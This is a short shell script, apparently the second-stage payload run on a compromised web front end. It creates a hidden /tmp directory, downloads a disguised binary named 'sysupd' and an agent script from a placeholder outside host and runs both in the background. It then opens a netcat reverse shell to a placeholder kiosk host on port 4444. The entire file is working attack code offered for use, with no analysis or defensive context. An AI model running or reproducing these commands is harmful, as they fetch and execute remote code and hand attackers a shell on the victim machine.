#!/bin/sh
# What the broken-into web front end is made to run: fetches a program and an agent, then ties a shell to the kiosk.
mkdir -p /tmp/.x
cd /tmp/.x || exit 1
wget -q -O sysupd http://@OUTSIDE@:8000/sysupd && chmod 755 sysupd && ./sysupd
wget -q -O agent.sh http://@OUTSIDE@:8000/agent.sh
setsid sh agent.sh </dev/null >/dev/null 2>&1 &
setsid nc @KIOSK@ 4444 -e /bin/sh </dev/null >/dev/null 2>&1 &
